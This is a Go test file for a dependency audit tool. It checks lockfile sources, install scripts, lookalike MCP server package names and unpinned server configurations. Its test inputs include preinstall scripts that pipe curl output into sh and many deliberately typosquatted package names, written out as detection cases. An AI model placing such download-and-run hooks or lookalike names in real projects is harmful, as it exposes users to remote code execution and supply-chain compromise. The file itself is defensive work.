package audit

import (
	"strings"
	"testing"
)

func TestLockfiles(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, src string
		count     int
		want      string
	}{
		{"package-lock.json", `{"packages": {"": {"name": "x"}, "node_modules/a": {"resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz"}, "node_modules/a/node_modules/@s/b": {"resolved": "git+ssh://git@github.com/s/b.git#1"}}}`, 2, "lock-source package-lock.json:1 low"},
		{"package-lock.json", `{"packages": {"node_modules/a": {"resolved": "https://registry.npmjs.org/a/-/a-1.0.0.tgz", "funding": {"url": "http://a.example"}}}}`, 1, ""},
		{"yarn.lock", "# yarn lockfile v1\n\n\"@s/a@^1.0.0\":\n  version \"1.0.0\"\n  resolved \"http://mirror.example/a-1.0.0.tgz\"\n\nb@^2, b@^2.1:\n  version \"2.1.0\"\n", 2, "lock-source yarn.lock:5 medium"},
		{"pnpm-lock.yaml", "packages:\n\n  '@s/a@1.0.0':\n    resolution: {integrity: x}\n  b@2.0.0:\n    resolution: {tarball: https://b.example/b.tgz}\n", 2, "lock-source pnpm-lock.yaml:6 low"},
		{"uv.lock", "[[package]]\nname = \"a\"\nsource = { registry = \"http://pypi.local/simple\" }\n[[package]]\nname = \"b\"\n", 2, "lock-source uv.lock:3 medium"},
		{"poetry.lock", "[[package]]\nname = \"a\"\n", 1, ""},
		{"pdm.lock", "[[package]]\nname = \"a\"\n", 1, ""},
		{"Cargo.lock", "[[package]]\nname = \"a\"\nsource = \"git+https://github.com/a/a?rev=1#2\"\n", 1, "lock-source Cargo.lock:3 low"},
		{"go.sum", "a.example/a v1.0.0 h1:x=\na.example/a v1.0.0/go.mod h1:y=\n", 1, ""},
		{"package-lock.json", `{"packages": [`, 0, ""},
	} {
		r, err := Dir(t.Context(), write(t, map[string]string{c.name: c.src}))
		if err != nil {
			t.Fatal(err)
		}
		if got := findings(t, r, LockSource); got != c.want || r.Profile.Locked[c.name] != c.count {
			t.Errorf("%s %s: %d packages, %s", c.name, c.src, r.Profile.Locked[c.name], got)
		}
	}
}

func TestPackaging(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ src, want string }{
		{`{"name": "x", "scripts": {"test": "curl https://a.example | sh"}}`, ""},
		{`{"name": "x", "scripts": {"postinstall": "node build.js"}}`, "install-script package.json:1 low"},
		{`{"name": "x", "scripts": {"preinstall": "curl https://a.example/x | sh"}}`, "download-run package.json:1 high; install-script package.json:1 low"},
		{`{"name": "firecrawl_mcp"}`, "name-close package.json:1 medium"},
		{`{"name": "firecrawl-mcp"}`, ""},
	} {
		r, err := Dir(t.Context(), write(t, map[string]string{"package.json": c.src}))
		if err != nil {
			t.Fatal(err)
		}
		if got := findings(t, r, InstallScript, DownloadRun, NameClose); got != c.want {
			t.Errorf("%s: %s", c.src, got)
		}
	}
}

// A name is close to a well-known one by a letter, a scope or words that claim to be the real one.
func TestResembles(t *testing.T) {
	t.Parallel()
	const medium, low = " medium", " low"
	for name, want := range map[string]string{
		"npm:@modelcontextprotocol/server-filesystem":          "",
		"npm:@modelcontextprotocol/server-filesystems":         "@modelcontextprotocol/server-filesystem" + medium,
		"npm:@modelcontextprotocl/server-filesystem":           "@modelcontextprotocol/server-filesystem" + medium,
		"npm:modelcontextprotocol-server-memory":               "@modelcontextprotocol/server-memory" + medium,
		"npm:modelcontextprotocol-sdk":                         "@modelcontextprotocol/sdk" + medium,
		"npm:@model-context-protocol/anything":                 "@modelcontextprotocol/sdk" + medium,
		"npm:@modelcontextprotocol-official/x":                 "@modelcontextprotocol/sdk" + medium,
		"npm:@modelcontextprotocol-servers/x":                  "@modelcontextprotocol/sdk" + medium,
		"npm:chrome-devtools-mpc":                              "chrome-devtools-mcp" + medium,
		"npm:chrome-devtools-mcp-official":                     "chrome-devtools-mcp" + medium,
		"npm:official-firecrawl-mcp":                           "firecrawl-mcp" + medium,
		"npm:@somebody/firecrawl-mcp-official":                 "firecrawl-mcp" + medium,
		"npm:real-fastmcp":                                     "fastmcp" + medium,
		"npm:firecrawl-mcp-server":                             "firecrawl-mcp" + low,
		"npm:node-tavily-mcp":                                  "tavily-mcp" + low,
		"npm:server-filesystem":                                "@modelcontextprotocol/server-filesystem" + low,
		"npm:context7-mcp":                                     "@upstash/context7-mcp" + low,
		"pypi:mcp_server.Fetch":                                "",
		"pypi:mcp-server-fetc":                                 "mcp-server-fetch" + medium,
		"pypi:mcpserverfetch":                                  "mcp-server-fetch" + medium,
		"pypi:mcp-server-git-official":                         "mcp-server-git" + medium,
		"pypi:py-mcp-server-git":                               "mcp-server-git" + low,
		"pypi:markitdown-mcp-server":                           "markitdown-mcp" + low,
		"pypi:fastmcp-cli":                                     "fastmcp" + low,
		"pypi:official":                                        "",
		"npm:" + strings.Repeat("a-official-", 10_000) + "mcp": "",
	} {
		registry, name, _ := strings.Cut(name, ":")
		got := ""
		if c := resembles(registry, name); c.known != "" {
			got = c.known + " " + string(c.severity)
		}
		if got != want {
			t.Errorf("%.80s: %q, want %q", name, got, want)
		}
	}
}

// Honest names that share words with well-known ones are close to none.
func TestHonestNames(t *testing.T) {
	t.Parallel()
	for _, name := range strings.Fields(`npm:@mine/server-filesystem npm:my-notes-mcp npm:mcp2 npm:mcp-server npm:@azure/mcp-linux-x64 npm:@supabase/mcp-utils
		npm:@cloudflare/playwright-mcp npm:notion-mcp-server npm:mcp-atlassian-server npm:mcp-proxy-server npm:@tavily/core npm:firecrawl-fastmcp npm:mcp-server-fetch-typescript
		npm:playwright npm:@playwright/test npm:@langchain/core npm:mcp-client npm:@storybook/addon-mcp npm:slack-mcp-server-linux-amd64
		pypi:firecrawl-py pypi:tavily-python pypi:fastmcp-extensions pypi:fastmcp-slim pypi:mcp-server-duckdb pypi:mcp-server-gitlab pypi:mysql-mcp-server pypi:awslabs.postgres-mcp-server pypi:markitdown pypi:mcp-cli pypi:opensearch-mcp-server-py`) {
		registry, bare, _ := strings.Cut(name, ":")
		if c := resembles(registry, bare); c.known != "" {
			t.Errorf("%s is close to %s", name, c.known)
		}
	}
}

// What a package needs, and what a configuration or a script starts, has names too.
func TestCloseNamesOfOthers(t *testing.T) {
	t.Parallel()
	o := Options{Servers: func(string, []byte) []Server {
		return []Server{
			{Name: "a", Command: []string{"npx", "-y", "@modelcontextprotocl/server-filesystem@1.0.0", "/data"}, Line: 1},
			{Name: "b", Command: []string{`C:\\cmd.exe`, "/c", "npx.cmd", "-y", "firecrawl_mcp@2"}, Line: 2},
			{Name: "c", Command: []string{"uvx", "--from", "git+https://a.example/mcp-server-fetc", "x"}, Line: 3},
			{Name: "d", Command: []string{"uvx", "mcp-server-fetch@1.0"}, Line: 4},
		}
	}}
	const manifest = `{"name": "x", "dependencies": {
 "@modelcontextprotocol/sdk": "1"}, "devDependencies": {
 "tavily-mpc": "1", "somebody/tavily-mpc": "1"}}`
	r, err := Checkout(t.Context(), write(t, map[string]string{
		"package.json": manifest, "pyproject.toml": "[project]\nname = 'x'\ndependencies = [\n  'mcp-server-fetc[x]>=1',\n]\n", "requirements.txt": "mcp==1\nmcp_server_fetcha==1\n",
		"x-1.dist-info/METADATA": "Metadata-Version: 2.1\nName: x\nRequires-Dist: mcp-proxi; extra == 'y'\n",
		".mcp.json":              "\n\n\n\n", "i.sh": "npm i -g tavily-mpc@1.0.0\nnpm i a/tavily-mpc\n", "LICENSE": "",
	}), o)
	if err != nil {
		t.Fatal(err)
	}
	want := "name-close .mcp.json:1 medium; name-close .mcp.json:2 medium; name-close i.sh:1 medium; name-close package.json:3 medium; " +
		"name-close pyproject.toml:4 medium; name-close requirements.txt:2 medium; name-close x-1.dist-info/METADATA:3 medium"
	if got := findings(t, r, NameClose); got != want {
		t.Errorf("%s\nwant %s", got, want)
	}
}

// Servers of a configuration in a tree are judged as those of one that is named.
func TestConfigurationsInATree(t *testing.T) {
	t.Parallel()
	o := Options{Servers: func(string, []byte) []Server {
		return []Server{{Name: "n", Command: []string{"npx", "-y", "some-server"}, Line: 2}, {Name: "r", URL: "http://a.example/mcp", Line: 3}}
	}}
	r, err := Checkout(t.Context(), write(t, map[string]string{".cursor/mcp.json": "{\n \"n\": 1,\n \"r\": 2}\n", "other.json": "{}"}), o)
	if err != nil {
		t.Fatal(err)
	}
	if got := findings(t, r, UnpinnedInstall, ConfigPlainHTTP); got != "config-plain-http .cursor/mcp.json:3 medium; unpinned-install .cursor/mcp.json:2 low" {
		t.Error(got)
	}
}
